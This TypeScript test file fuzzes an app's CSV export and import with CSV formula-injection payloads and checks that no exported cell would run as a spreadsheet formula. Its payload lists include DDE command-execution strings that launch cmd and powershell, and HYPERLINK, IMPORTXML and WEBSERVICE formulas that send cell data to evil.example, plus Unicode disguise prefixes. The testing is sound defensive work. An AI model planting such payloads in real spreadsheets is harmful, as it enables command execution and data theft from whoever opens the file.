import Papa from "papaparse";
import { csvText } from "../../web/src/console/contacts/import/csv.ts";
import { readTable } from "../../workers/contacts/imports/readTable.ts";
import { csvOf } from "../../workers/platform/csv.ts";
import { isRefusal } from "../../workers/platform/refusal.ts";
import { Dice } from "./levels/random.ts";
import { defineTrial } from "./trial.ts";

interface Tally {
  cells: number;
  formulas: number;
  changed: number;
  wrong: string[];
}

const starts = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "\u00a0=",
  "\u3000=",
  "\ufeff=",
  "\u200b=",
  "\u0000=",
  "＝",
  "＋",
  "－",
  "＠",
  "=-",
  "'=",
  '"=',
  '""=',
];
const bodies = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?d="&A1;"clicca")',
  'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  'WEBSERVICE("https://evil.example/"&A2)',
  "SUM(1+1)*cmd|' /C powershell'!A0",
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|' /C calc'!A0",
];
const before = [
  "",
  "",
  "",
  "Marta",
  "Marta,",
  "Marta;",
  "Marta\t",
  'Marta",',
  'Marta";',
  "Marta\n",
  "Marta\r\n",
  "a, b; ",
  "Marta|",
];
const after = ["", "", ",altro", ";altro", '"', "\n", "\r\nfine"];
const honest = [
  "Prezzo, -10 %",
  "uno; +39 02",
  "- latte\n- pane",
  "a=b",
  "anna@filo.example",
  "5 - 3",
  "x, - y",
  "C'è; è vero",
  'dice "ciao"',
];

/** What a spreadsheet would run: Excel, LibreOffice and Google Sheets, which also read signs of full width. Text in quotes is text. */
const isFormula = (cell: string): boolean => {
  const seen = cell.replace(/^[\s\p{C}]+/u, "").normalize("NFKC");
  return /^[=@]/.test(seen) || (/^[+-]/.test(seen) && !/^[+-]?[\d\s.,%]*$/.test(seen) && /[(|!=]|\d\s*[*/^&+]/.test(seen));
};

const separators = [",", ";", "\t", "|"];

/** Every cell that somebody's spreadsheet may see, by whichever separator it parts the file. */
const cellsOf = (text: string): string[] =>
  separators.flatMap((delimiter) => Papa.parse<string[]>(text.replace(/^\ufeff/, ""), { delimiter }).data.flat());

/**
 * Cells of tables that Filo writes, with formulas in every disguise in them, and read back as spreadsheets of every country would part
 * them; what can be imported again is the text that it was.
 */
export const trial = defineTrial<Tally>({
  section: "attack",
  size: 10_000,
  slice: 2_000,
  start: { cells: 0, formulas: 0, changed: 0, wrong: [] },
  async run({ seed, from, to }, tally) {
    const next = { ...tally, wrong: [...tally.wrong] };
    for (let number = from; number < to; number++) {
      const dice = new Dice(seed * 1_000_003 + number);
      const isHonest = dice.chance(0.2);
      const text = isHonest ? dice.one(honest) : dice.one(before) + dice.one(starts) + dice.one(bodies) + dice.one(after);
      const row = ["Nome", "Anna", text, "fine"];
      const files = [
        csvOf([["a", "b", "c", "d"], row], ","),
        csvOf([["a", "b", "c", "d"], row], ";"),
        csvText([["a", "b", "c", "d"], row]),
      ];
      for (const file of files) {
        const cells = cellsOf(file);
        const formulas = cells.filter(isFormula);
        next.cells += cells.length;
        next.formulas += formulas.length;
        if (formulas.length > 0) next.wrong.push(`case ${number}: ${JSON.stringify(formulas[0])} of ${JSON.stringify(text)}`);
        const table = readTable(file);
        const back = isRefusal(table) ? undefined : table.rows[0]?.cells[2];
        if (isHonest && back !== text)
          next.wrong.push(`case ${number}: ${JSON.stringify(text)} came back as ${JSON.stringify(back)}`);
        if (isHonest && back !== text) next.changed++;
      }
    }
    return { ...next, wrong: next.wrong.slice(0, 20) };
  },
  figures: ({ cells, formulas, changed, wrong }, done) => [
    {
      what: "formulas in every disguise, in every table that Filo writes, parted as any spreadsheet may part it: cells that a spreadsheet would run",
      measured: `${formulas} of ${cells} cells in ${done * 3} files${wrong[0] ? `; first: ${wrong[0]}` : ""}`,
      bound: "0",
      holds: formulas === 0,
    },
    {
      what: "the same tables: honest texts that an import reads back otherwise than they were",
      measured: `${changed}`,
      bound: "0",
      holds: changed === 0,
    },
  ],
});
